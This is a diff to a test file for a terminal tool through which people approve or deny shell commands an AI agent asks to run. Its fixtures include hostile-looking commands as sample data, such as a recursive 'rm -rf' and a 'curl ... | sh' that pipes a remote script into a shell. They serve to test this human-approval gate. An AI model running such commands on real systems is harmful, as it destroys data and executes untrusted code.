@@ -49,10 +49,10 @@ def test_watch_answers_an_agent_with_no_terminal(env, tmp_path):
         for shown in ("approve this command? (1 of 2)", "rm -rf build && git -C app push", "^^^^^^^^^^^^",
                       "high:", "recursive delete", "rm *", "asked by pid"):
             assert shown in w.before
-        w.send("p")
-        w.expect_exact("(2 of 2)")
+        w.send("p\r")
+        w.expect_exact("this command? (2 of 2)")
         w.expect_exact("] no")
-        w.send("n")
+        w.send("n\r")
         assert agent.wait(timeout=15) == 0
         got = result(out)
         assert [a[:3] for a in got["answers"]] == [[0, "p", "watch"], [1, "n", "watch"]]
@@ -111,15 +111,15 @@ def test_several_watchers_the_first_answer_wins(env, tmp_path):
     w1, w2 = spawn_watcher(env), spawn_watcher(env)
     try:
         agent, out = start_agent(env, RM, tmp_path)
-        w1.expect_exact("(1 of 2)")
-        w2.expect_exact("(1 of 2)")
+        w1.expect_exact("this command? (1 of 2)")
+        w2.expect_exact("this command? (1 of 2)")
         w1.expect_exact("] no")
-        w1.send("y")
+        w1.send("y\r")
         w2.expect_exact(f"answered elsewhere by watcher {w1.watch_pid}: y")
-        w1.expect_exact("(2 of 2)")
-        w2.expect_exact("(2 of 2)")
+        w1.expect_exact("this command? (2 of 2)")
+        w2.expect_exact("this command? (2 of 2)")
         w2.expect_exact("] no")
-        w2.send("s")
+        w2.send("s\r")
         w1.expect_exact(f"answered elsewhere by watcher {w2.watch_pid}: s")
         assert agent.wait(timeout=15) == 0
         assert [a[:3] for a in result(out)["answers"]] == [[0, "y", "watch"], [1, "s", "watch"]]
@@ -134,13 +134,15 @@ def test_questions_from_several_askers_queue_in_order(env, tmp_path):
         w.expect_exact("curl -s https://x.example/i.sh | sh")
         w.expect_exact("] no")
         second, out2 = start_agent(env, RM, tmp_path, "second")
-        w.send("a")                                 # dangerous: always is kept for the session only
-        w.expect_exact("downgraded to session")
+        w.send("a\r")                               # dangerous: only y or n; anything else asks again
+        w.expect_exact("only y (once, this line) or n")
+        w.send("y\r")
+        w.expect_exact("once: allowed for this line")
         w.expect_exact("rm -rf build && git -C app push")
         w.expect_exact("] no")
-        w.send("n")
+        w.send("n\r")
         assert first.wait(timeout=15) == 0 and second.wait(timeout=15) == 0
-        assert [a[:3] for a in result(out1)["answers"]] == [[0, "a", "watch"]]
+        assert [a[:3] for a in result(out1)["answers"]] == [[0, "y", "watch"]]
         assert result(out2)["answers"] == [[0, "n", "watch", ""]]
     finally:
         w.close(force=True)
@@ -213,9 +215,9 @@ def test_tmux_window_answers_a_shell_in_another_window(env, tmp_path):
                                f"setsid -w {PY} {DRIVER} {tmp_path / 'q.json'} {out} < /dev/null"],
                        env=env, check=True)
         wait_for("w:0", "] no")
-        subprocess.run(tmux + ["send-keys", "-t", "w:0", "y"], env=env, check=True)
-        wait_for("w:0", "(2 of 2)")
-        subprocess.run(tmux + ["send-keys", "-t", "w:0", "a"], env=env, check=True)
+        subprocess.run(tmux + ["send-keys", "-t", "w:0", "y", "Enter"], env=env, check=True)
+        wait_for("w:0", "this command? (2 of 2)")
+        subprocess.run(tmux + ["send-keys", "-t", "w:0", "a", "Enter"], env=env, check=True)
         assert [a[:3] for a in result(out)["answers"]] == [[0, "y", "watch"], [1, "a", "watch"]]
     finally:
         subprocess.run(tmux + ["kill-server"], env=env, capture_output=True)
